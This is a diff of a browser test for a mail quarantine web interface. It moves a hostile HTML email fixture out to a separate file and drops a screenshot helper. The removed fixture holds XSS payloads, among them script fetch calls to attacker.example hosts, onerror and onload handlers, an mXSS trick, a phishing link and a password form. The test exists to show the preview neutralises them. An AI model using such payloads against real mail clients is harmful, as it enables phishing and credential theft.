@@ -3,47 +3,19 @@
 // hostile HTML message (nothing runs, nothing loads, not one request leaves the page), remote content
 // on request, the release (one qmail-queue call, to that recipient only), and a digest link (opening
 // does nothing, the button acts once; used, tampered and expired links do nothing).
-// With NQQ_SCREENSHOTS=1 it also writes the README's screenshots to docs/screenshots/.
+// The README's screenshots are taken by test/browser/screenshots.test.ts, with real scanners.
 
 import assert from 'node:assert/strict';
-import { mkdirSync } from 'node:fs';
-import { join } from 'node:path';
 
 import type { Frame, Page } from 'playwright-core';
 
 import { makeLink, signingKey } from '../../src/links/links.js';
+import { HOSTILE_PAGE } from '../fixtures/hostile-html.js';
 import { browserTest, startBrowser, type RecordedPage, type TestBrowser } from '../helpers/browser.js';
-import { REPO, setupsForThisFile, type Setup } from '../helpers/nqq.js';
+import { setupsForThisFile, type Setup } from '../helpers/nqq.js';
 import { hold, installConsole, startWeb, USERS, type WebServer } from '../helpers/web.js';
 
 const newSetup = setupsForThisFile();
-const SCREENSHOTS = process.env.NQQ_SCREENSHOTS === '1';
-const SHOTS = join(REPO, 'docs', 'screenshots');
-
-/** Every way an HTML mail tries to run something, load something, send something or go somewhere. */
-const HOSTILE_HTML = `<!DOCTYPE html>
-<html><head>
-<meta http-equiv="refresh" content="0;url=https://refresh.attacker.example/">
-<base href="https://base.attacker.example/">
-<link rel="prefetch" href="https://prefetch.attacker.example/p">
-<link rel="stylesheet" href="https://css.attacker.example/s.css">
-<style>@import url("https://import.attacker.example/i.css"); body { background: url(https://style-bg.attacker.example/bg.png) }</style>
-<script>document.title = 'PWNED'; top.document.title = 'PWNED'; alert('script ran'); fetch('https://fetch.attacker.example/f');</script>
-</head>
-<body onload="alert('onload ran')" background="https://body-bg.attacker.example/b.png">
-<h1>Your mailbox is almost full</h1>
-<p style="background:url(https://inline-style.attacker.example/s.png)">Dear customer, <a href="https://login.attacker.example/phish">click here to keep your mail</a>
-or <a href="javascript:alert('link ran')">here</a>.</p>
-<p><img src="https://remote-image.attacker.example/pixel.png" alt="tracking pixel" onerror="alert('onerror ran')"></p>
-<img srcset="https://srcset.attacker.example/1x.png 1x" src="x" onerror="alert('onerror 2 ran')">
-<form action="https://form.attacker.example/post" method="post"><input name="password" type="password" value="">
-<button type="submit">Keep my mail</button></form>
-<svg onload="alert('svg ran')"><image href="https://svg.attacker.example/i.png"/></svg>
-<iframe src="https://frame.attacker.example/"></iframe>
-<noscript><p title="</noscript><img src=x onerror=alert('mxss ran')>"></noscript>
-<table background="https://table-bg.attacker.example/t.png"><tr><td>Mailbox team</td></tr></table>
-</body></html>
-`;
 
 interface Console {
   readonly s: Setup;
@@ -83,12 +55,6 @@ async function logIn(p: RecordedPage, origin: string, login: keyof typeof USERS)
   await Promise.all([p.page.waitForURL(`${origin}/`), p.page.click('form[action="/login"] button[type=submit]')]);
 }
 
-async function shot(page: Page, name: string): Promise<void> {
-  if (!SCREENSHOTS) return;
-  mkdirSync(SHOTS, { recursive: true });
-  await page.screenshot({ path: join(SHOTS, `${name}.png`), fullPage: true });
-}
-
 async function previewFrame(page: Page): Promise<Frame> {
   await page.waitForSelector('iframe.preview');
   const handle = await page.$('iframe.preview');
@@ -109,7 +75,7 @@ browserTest('log in, list, preview a hostile HTML message (nothing runs, no requ
       to: ['alice@example.com'],
       subject: 'Your mailbox is almost full',
       headers: 'MIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n',
-      body: HOSTILE_HTML,
+      body: HOSTILE_PAGE,
     });
     await hold(s, { from: 'newsletter@shop.example', to: ['alice@example.com'], subject: 'Weekly offers: 40% off everything', body: 'Our best offers this week.\n' });
     await hold(s, { from: 'colleague@partner.example', to: ['alice@example.com'], subject: 'Minutes of the meeting', body: 'Attached are the minutes.\n' });
@@ -125,7 +91,6 @@ browserTest('log in, list, preview a hostile HTML message (nothing runs, no requ
     assert.ok(list.includes('Your mailbox is almost full'));
     assert.ok(list.includes('Weekly offers'));
     assert.ok(!list.includes('For Bob only'));
-    await shot(p.page, 'list');
 
     // The item: plain text by default, made from the HTML; no frame yet.
     await Promise.all([p.page.waitForURL(`${origin}/item/${hostile}`), p.page.click(`a[href="/item/${hostile}"]`)]);
@@ -143,7 +108,6 @@ browserTest('log in, list, preview a hostile HTML message (nothing runs, no requ
     assert.match(shownText, /click here to keep your mail \[https:\/\/login\.attacker\.example\/phish\]/);
     assert.match(shownText, /\[remote image: https:\/\/remote-image\.attacker\.example\/pixel\.png “tracking pixel”\]/);
     assert.equal(await frame.locator('a[href], form, input, button, script, iframe, svg, img[src^="http"]').count(), 0);
-    await shot(p.page, 'preview');
 
     // Nothing ran: no dialog, the titles unchanged, no script error, no console message at all.
     assert.deepEqual(p.dialogs, []);
@@ -194,7 +158,6 @@ browserTest('log in, list, preview a hostile HTML message (nothing runs, no requ
     const whyPath = await p.page.locator('a[href^="/item/"]').first().getAttribute('href');
     await p.page.goto(`${origin}${whyPath}/why`);
     assert.match(await p.page.content(), /Why this message is held/);
-    await shot(p.page, 'why');
 
     // Bob's item is not alice's to see, in the page or in the frame.
     const refused = await p.page.goto(`${origin}/item/${bobs}/preview`);
